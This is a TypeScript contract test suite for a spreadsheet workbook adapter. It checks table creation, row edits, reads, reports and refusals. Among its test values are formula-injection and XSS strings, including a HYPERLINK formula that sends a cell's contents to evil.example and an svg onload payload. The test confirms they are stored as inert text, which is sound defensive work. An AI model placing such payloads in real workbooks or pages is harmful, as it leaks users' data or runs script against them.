/*
 * What every workbook port promises, stated once. An adapter's test calls this with a function that makes a port over a
 * new workbook without any tables.
 */
import type { ColumnLayout, FoundTable, Outage, TableLayout, WorkbookChange, WorkbookPort } from '../../src/ports/workbookPort';
import type { CellValue } from '../../src/schema/cell';

function column(header: string, more: Partial<ColumnLayout> = {}): ColumnLayout {
  return { header, note: '', numberFormat: '@', width: 12, align: 'left', derived: false, ...more };
}

function layout(name: string, more: Partial<TableLayout> = {}): TableLayout {
  const columns = [column('No.'), column('Name'), column('Quantity', { numberFormat: 'General', align: 'right' })];
  return { name, sheetName: `${name} sheet`, tabColor: '#2E8B57', columns, locked: false, ...more };
}

const ROWS = [
  ['C1', 'Fjord', 1],
  ['C2', 'Fjell', 2.5],
  ['C3', 'Vidde', -3],
];

function createTable(name: string, rows: readonly (readonly CellValue[])[] = [], more: Partial<TableLayout> = {}): WorkbookChange {
  return { kind: 'createTable', layout: layout(name, more), rows };
}

async function written(port: WorkbookPort, ...changes: readonly WorkbookChange[]): Promise<void> {
  expect(await port.write(changes)).toEqual({ ok: true, value: { changesDone: changes.length, stopped: false } });
}

async function refusal(port: WorkbookPort, ...changes: readonly WorkbookChange[]): Promise<Outage> {
  const result = await port.write(changes);
  if (result.ok) throw new Error('the changes were written');
  return result.refusal;
}

async function table(port: WorkbookPort, name: string): Promise<FoundTable> {
  const read = await port.readTables([name]);
  const [found] = read.ok ? read.value : [];
  if (found === undefined) throw new Error(`there is no table ${name}`);
  return found;
}

/** The rows that hold anything: a blank table may have one blank row. */
async function rowsOf(port: WorkbookPort, name: string): Promise<FoundTable['rows']> {
  return (await table(port, name)).rows.filter((row) => row.some((cell) => cell !== ''));
}

export function workbookPortContract(adapter: string, open: () => Promise<WorkbookPort>): void {
  describe(`the workbook port of ${adapter}`, () => {
    let port: WorkbookPort;
    beforeEach(async () => {
      port = await open();
    });

    describe('tables', () => {
      test('a table that was made stands from A1 on its own sheet, with its headers and rows', async () => {
        await written(port, createTable('Customers', ROWS));
        expect(await table(port, 'Customers')).toEqual({
          name: 'Customers',
          sheetName: 'Customers sheet',
          firstRow: 2,
          firstColumn: 1,
          headers: ['No.', 'Name', 'Quantity'],
          rows: ROWS,
        });
      });

      test('a table made without rows holds nothing', async () => {
        await written(port, createTable('Customers'));
        expect(await rowsOf(port, 'Customers')).toEqual([]);
      });

      test('the tables that are asked for are read, and those that are not there are left out', async () => {
        await written(port, createTable('Customers', ROWS), createTable('Items', ROWS), createTable('Vendors', ROWS));
        const read = await port.readTables(['Items', 'Missing', 'Customers']);
        expect(read.ok && read.value.map(({ name }) => name).sort()).toEqual(['Customers', 'Items']);
      });

      test('all tables are read when none is named', async () => {
        await written(port, createTable('Customers'), createTable('Items'));
        const read = await port.readTables();
        expect(read.ok && read.value.map(({ name }) => name).sort()).toEqual(['Customers', 'Items']);
      });

      test('names of tables are compared without case', async () => {
        await written(port, createTable('Customers', ROWS));
        await written(port, { kind: 'truncateTable', table: 'CUSTOMERS', keep: 1 });
        const read = await port.readTables(['customers']);
        expect(read.ok && read.value.map(({ name, rows }) => [name, rows])).toEqual([['Customers', [ROWS[0]]]]);
      });

      test('tables that were read stay as they were when the workbook changes', async () => {
        await written(port, createTable('Customers', ROWS));
        const before = await table(port, 'Customers');
        await written(port, { kind: 'updateRows', table: 'Customers', firstIndex: 0, columns: [1], values: [['Bre']] });
        await written(port, { kind: 'truncateTable', table: 'Customers', keep: 1 });
        expect(before.rows).toEqual(ROWS);
      });
    });

    describe('rows', () => {
      test('appended rows stand below the last one, in their order', async () => {
        await written(port, createTable('Customers', ROWS));
        await written(port, { kind: 'appendRows', table: 'Customers', rows: [['C4', 'Bre', 4], ['C5', 'Foss', 5]] });
        expect((await table(port, 'Customers')).rows).toEqual([...ROWS, ['C4', 'Bre', 4], ['C5', 'Foss', 5]]);
      });

      test('the first rows of a blank table take the place of its blank row', async () => {
        await written(port, createTable('Customers'), { kind: 'appendRows', table: 'Customers', rows: ROWS });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });

      test('null leaves a cell of an appended row blank', async () => {
        await written(port, createTable('Customers', ROWS));
        await written(port, { kind: 'appendRows', table: 'Customers', rows: [['C4', null, 4]] });
        expect((await rowsOf(port, 'Customers')).at(-1)).toEqual(['C4', '', 4]);
      });

      test('changed cells hold their new values, null leaves a cell as it is and a blank text clears it', async () => {
        await written(port, createTable('Customers', ROWS));
        const values = [['', 7], [null, null], ['Topp', null]];
        await written(port, { kind: 'updateRows', table: 'Customers', firstIndex: 0, columns: [1, 2], values });
        expect((await table(port, 'Customers')).rows).toEqual([['C1', '', 7], ['C2', 'Fjell', 2.5], ['C3', 'Topp', -3]]);
      });

      test('columns to change may be named in any order', async () => {
        await written(port, createTable('Customers', ROWS));
        await written(port, { kind: 'updateRows', table: 'Customers', firstIndex: 1, columns: [2, 0], values: [[9, 'C9']] });
        expect((await table(port, 'Customers')).rows[1]).toEqual(['C9', 'Fjell', 9]);
      });

      test('rows are taken from the end of a table until as many remain as are to be kept', async () => {
        await written(port, createTable('Customers', ROWS), { kind: 'truncateTable', table: 'Customers', keep: 2 });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS.slice(0, 2));
      });

      test('a table that keeps no row is blank, and takes rows again', async () => {
        await written(port, createTable('Customers', ROWS), { kind: 'truncateTable', table: 'Customers', keep: 0 });
        expect(await rowsOf(port, 'Customers')).toEqual([]);
        await written(port, { kind: 'appendRows', table: 'Customers', rows: ROWS });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });

      test('a table with fewer rows than are to be kept stays as it is', async () => {
        await written(port, createTable('Customers', ROWS), { kind: 'truncateTable', table: 'Customers', keep: 10 });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });
    });

    describe('rows read back', () => {
      const customers = { table: 'Customers', from: 1, count: 2 };

      test('rows are read from an index on to the end, with the headers as they are', async () => {
        await written(port, createTable('Customers', ROWS), createTable('Items', [['I1', 'Ski', 4]]));
        const read = await port.readRows([customers, { table: 'Items', from: 0, count: 1 }]);
        if (!read.ok) throw new Error(read.refusal.detail);
        expect(read.value.map(({ name, headers, rows, firstRow }) => ({ name, headers, rows, firstRow }))).toEqual([
          { name: 'Customers', headers: ['No.', 'Name', 'Quantity'], rows: ROWS.slice(1), firstRow: 2 },
          { name: 'Items', headers: ['No.', 'Name', 'Quantity'], rows: [['I1', 'Ski', 4]], firstRow: 2 },
        ]);
      });

      test('rows that came meanwhile are read too, however many were expected', async () => {
        await written(port, createTable('Customers', ROWS), { kind: 'appendRows', table: 'Customers', rows: [['C4', 'Li', 4]] });
        const read = await port.readRows([customers]);
        expect(read.ok && read.value[0]?.rows).toEqual([...ROWS.slice(1), ['C4', 'Li', 4]]);
      });

      test('some rows are read by themselves, with the size of the table', async () => {
        await written(port, createTable('Customers', ROWS));
        const read = await port.readRows([{ table: 'Customers', from: 1, count: 1, isPart: true }]);
        expect(read.ok && read.value.map(({ name, rows, firstRow, rowCount }) => ({ name, rows, firstRow, rowCount }))).toEqual([{ name: 'Customers', rows: ROWS.slice(1, 2), firstRow: 2, rowCount: ROWS.length }]);
        expect(await port.readRows([{ table: 'Customers', from: 1, count: ROWS.length, isPart: true }])).toMatchObject({ ok: false, refusal: { code: 'rowsMoved' } });
      });

      test('some columns are read by themselves, in the order they are asked for', async () => {
        await written(port, createTable('Customers', ROWS));
        const read = await port.readRows([{ table: 'Customers', from: 0, count: 2, isPart: true, columns: [0, 2] }, { table: 'Customers', from: 1, count: 2, columns: [2, 0, 1] }]);
        expect(read.ok && read.value.map(({ headers, rows, rowCount }) => ({ headers, rows, rowCount }))).toEqual([
          { headers: ['No.', 'Quantity'], rows: ROWS.slice(0, 2).map(([no, , quantity]) => [no, quantity]), rowCount: ROWS.length },
          { headers: ['Quantity', 'No.', 'Name'], rows: ROWS.slice(1).map(([no, name, quantity]) => [quantity, no, name]), rowCount: ROWS.length },
        ]);
      });

      test('a table that ends above the index, or is gone, is refused', async () => {
        await written(port, createTable('Customers', ROWS));
        expect(await port.readRows([{ table: 'Customers', from: 3, count: 1 }])).toMatchObject({ ok: false, refusal: { code: 'rowsMoved' } });
        expect(await port.readRows([{ table: 'Missing', from: 0, count: 1 }])).toMatchObject({ ok: false, refusal: { code: 'tableMissing' } });
      });
    });

    describe('values', () => {
      test.each([
        ['a code with leading zeros', '00123'],
        ['a code that looks like a power of ten', '1E10'],
        ['a code of more digits than a number holds', '12345678901234567890'],
        ['a code that looks like a date', '3-4'],
        ['a text that looks like a formula', '=1+1'],
        ['a text that looks like a link', '=HYPERLINK("https://evil.example/?d="&A1,"click")'],
        ['a text that begins with a plus', '+SUM(A1:A10)'],
        ['a text that begins with a minus', '-2*3'],
        ['a text that begins with an at sign', '@SUM(1;2)'],
        ['a text that is a word for yes', 'TRUE'],
        ['a text that looks like markup', '<svg/onload=alert(1)>'],
        ['a name in another script', 'Ærøskøbing Ŝipo 東京 🚢'],
        ['a text with a line end', 'first\nsecond'],
      ])('%s is written as text and read as the same text', async (_, text) => {
        await written(port, createTable('Customers', [[text, text, 1]]));
        await written(port, { kind: 'appendRows', table: 'Customers', rows: [[text, text, 2]] });
        expect((await table(port, 'Customers')).rows).toEqual([[text, text, 1], [text, text, 2]]);
      });

      test.each([0, -0.01, 0.1, 1250.55, 9_999_999_999_999.99, 46_346])('the number %p is read as the same number', async (number) => {
        await written(port, createTable('Customers', [['C1', 'Fjord', number]]));
        expect((await table(port, 'Customers')).rows[0]?.[2]).toBe(number);
      });

      test('yes and no are read as truth values', async () => {
        await written(port, createTable('Customers', [['C1', 'Fjord', true], ['C2', 'Fjell', false]]));
        expect((await table(port, 'Customers')).rows.map((row) => row[2])).toEqual([true, false]);
      });
    });

    describe('reports', () => {
      test('a report makes its sheet when it is not there', async () => {
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows: ROWS });
        expect((await table(port, 'Balances')).rows).toEqual(ROWS);
      });

      test.each([
        ['more', [...ROWS, ['C4', 'Bre', 4]]],
        ['fewer', [['C9', 'Topp', 9]]],
        ['no', []],
      ])('a report takes the place of an older one with %s rows', async (_, rows) => {
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows: ROWS });
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows });
        expect(await rowsOf(port, 'Balances')).toEqual(rows);
        const names = await port.sheetNames();
        expect(names.ok && names.value.filter((name) => name.startsWith('Balances'))).toEqual(['Balances sheet']);
      });

      test('a report in another language has its headers, and a column it has more at its right end', async () => {
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows: ROWS });
        const columns = ['Account', 'Balance', 'Limit'].map((header) => column(header));
        const renames = [{ from: 'No.', to: 'Account' }, { from: 'Quantity', to: 'Balance' }];
        await written(port, { kind: 'replaceTable', layout: layout('Balances', { columns }), renames, rows: [['1500', 'A', 'B']] });
        const found = await table(port, 'Balances');
        expect([found.headers, found.rows]).toEqual([['Account', 'Name', 'Balance', 'Limit'], [['1500', ROWS[0]?.[1], 'A', 'B']]]);
      });

      test('rows that stand only while the others are written are not there afterwards', async () => {
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows: ROWS });
        await written(port, { kind: 'replaceTable', layout: layout('Balances'), rows: [...ROWS, ...ROWS.slice(0, 2)], spareRows: 2 });
        expect((await table(port, 'Balances')).rows).toEqual(ROWS);
      });
    });

    describe('what is refused', () => {
      test.each<WorkbookChange>([
        { kind: 'appendRows', table: 'Missing', rows: [['C4']] },
        { kind: 'updateRows', table: 'Missing', firstIndex: 0, columns: [0], values: [['C4']] },
        { kind: 'truncateTable', table: 'Missing', keep: 0 },
      ])('$kind of a table that is not there names the table', async (change) => {
        expect(await refusal(port, change)).toMatchObject({ code: 'tableMissing', place: 'Missing', changesDone: 0 });
      });

      test('a sheet that is not there is not shown', async () => {
        await written(port, createTable('Customers'));
        expect((await refusal(port, { kind: 'activateSheet', sheetName: 'Missing' })).code).toBe('tableMissing');
        const gone = await port.goTo({ sheetName: 'Missing', row: 1, column: 1 });
        expect(gone.ok).toBe(false);
      });

      test('a table whose sheet has the name of another sheet is not made', async () => {
        await written(port, createTable('Customers', ROWS));
        const change = createTable('Items', ROWS, { sheetName: 'CUSTOMERS SHEET' });
        expect((await refusal(port, change)).code).toBe('sheetNameTaken');
        const read = await port.readTables();
        expect(read.ok && read.value.map(({ name }) => name)).toEqual(['Customers']);
      });

      test('a table that has the name of another table is not made, and leaves no sheet', async () => {
        await written(port, createTable('Customers', ROWS));
        const before = await port.sheetNames();
        expect((await refusal(port, createTable('customers', [], { sheetName: 'Other' }))).code).toBe('sheetNameTaken');
        expect(await port.sheetNames()).toEqual(before);
      });

      test('rows that have not the columns of the table are not appended', async () => {
        await written(port, createTable('Customers', ROWS));
        expect((await refusal(port, { kind: 'appendRows', table: 'Customers', rows: [['C4', 'Bre']] })).code).toBe('rowsMoved');
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });

      test('cells beyond the table are not changed', async () => {
        await written(port, createTable('Customers', ROWS));
        const below: WorkbookChange = { kind: 'updateRows', table: 'Customers', firstIndex: 2, columns: [0], values: [['C8'], ['C9']] };
        const beside: WorkbookChange = { kind: 'updateRows', table: 'Customers', firstIndex: 0, columns: [3], values: [['C9']] };
        expect((await refusal(port, below)).code).toBe('rowsMoved');
        expect((await refusal(port, beside)).code).toBe('rowsMoved');
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });

      test('what was worked out for a table with other rows is refused, and nothing of it is done', async () => {
        await written(port, createTable('Customers', ROWS));
        const update: WorkbookChange = { kind: 'updateRows', table: 'Customers', rowCount: ROWS.length - 1, firstIndex: 0, columns: [0], values: [['C9']] };
        const cut: WorkbookChange = { kind: 'truncateTable', table: 'Customers', rowCount: ROWS.length + 1, keep: 1 };
        expect(await refusal(port, update)).toMatchObject({ code: 'rowsMoved', place: 'Customers', changesDone: 0 });
        expect(await refusal(port, cut)).toMatchObject({ code: 'rowsMoved', place: 'Customers', changesDone: 0 });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
        await written(port, { ...update, rowCount: ROWS.length }, { ...cut, rowCount: ROWS.length });
        expect((await table(port, 'Customers')).rows).toEqual([['C9', ...ROWS[0]?.slice(1) ?? []]]);
      });
    });

    describe('lists of changes', () => {
      test('no changes are done at once', async () => {
        expect(await port.write([])).toEqual({ ok: true, value: { changesDone: 0, stopped: false } });
      });

      test('changes are written in their order', async () => {
        await written(
          port,
          createTable('Customers', ROWS),
          { kind: 'truncateTable', table: 'Customers', keep: 1 },
          { kind: 'appendRows', table: 'Customers', rows: [['C7', 'Bre', 7]] },
          { kind: 'updateRows', table: 'Customers', firstIndex: 1, columns: [1], values: [['Topp']] },
        );
        expect((await table(port, 'Customers')).rows).toEqual([ROWS[0], ['C7', 'Topp', 7]]);
      });

      test('progress rises to the whole', async () => {
        const told: [number, number][] = [];
        const changes = [createTable('Customers', ROWS), createTable('Items', ROWS)];
        await port.write(changes, { onProgress: (done, total) => told.push([done, total]) });
        const last = told.at(-1);
        expect(last?.[0]).toBe(last?.[1]);
        expect(told.map(([done]) => done)).toEqual(told.map(([done]) => done).sort((a, b) => a - b));
      });

      test('a person who stops before anything was written finds nothing written', async () => {
        await written(port, createTable('Customers', ROWS));
        const result = await port.write([{ kind: 'truncateTable', table: 'Customers', keep: 0 }], { isStopped: () => true });
        expect(result).toEqual({ ok: true, value: { changesDone: 0, stopped: true } });
        expect((await table(port, 'Customers')).rows).toEqual(ROWS);
      });
    });

    describe('sheets', () => {
      test('sheets of new tables come after those that are there', async () => {
        const before = await port.sheetNames();
        await written(port, createTable('Customers'), createTable('Items'));
        const after = await port.sheetNames();
        expect(after.ok && before.ok && after.value).toEqual([...(before.ok ? before.value : []), 'Customers sheet', 'Items sheet']);
      });

      test('single cells are read wherever they are', async () => {
        await written(port, createTable('Customers', ROWS), createTable('Items', [['I1', 'Ski', 4]]));
        const cells = [{ sheetName: 'Items sheet', row: 2, column: 3 }, { sheetName: 'Customers sheet', row: 1, column: 2 }, { sheetName: 'Customers sheet', row: 90, column: 1 }];
        expect(await port.readCells(cells)).toEqual({ ok: true, value: [4, 'Name', ''] });
      });

      test('a sheet that is brought to the front holds the selection', async () => {
        await written(port, createTable('Customers'), createTable('Items'), { kind: 'activateSheet', sheetName: 'Items sheet' });
        const selected = await port.selection();
        expect(selected.ok && selected.value.sheetName).toBe('Items sheet');
      });

      test('a cell that is gone to is selected, and said to lie in its table', async () => {
        await written(port, createTable('Customers', ROWS), createTable('Items', ROWS));
        expect((await port.goTo({ sheetName: 'Customers sheet', row: 3, column: 2 })).ok).toBe(true);
        const selected = await port.selection();
        expect(selected).toEqual({
          ok: true,
          value: { sheetName: 'Customers sheet', tableName: 'Customers', firstRow: 3, firstColumn: 2, rowCount: 1, columnCount: 1 },
        });
      });
    });

    test('our own changes are not told as somebody’s', async () => {
      const told: unknown[] = [];
      const listening = await port.onChange((change) => told.push(change));
      await written(port, createTable('Customers', ROWS), { kind: 'truncateTable', table: 'Customers', keep: 1 });
      expect(told).toEqual([]);
      if (listening.ok) listening.value();
    });
  });
}
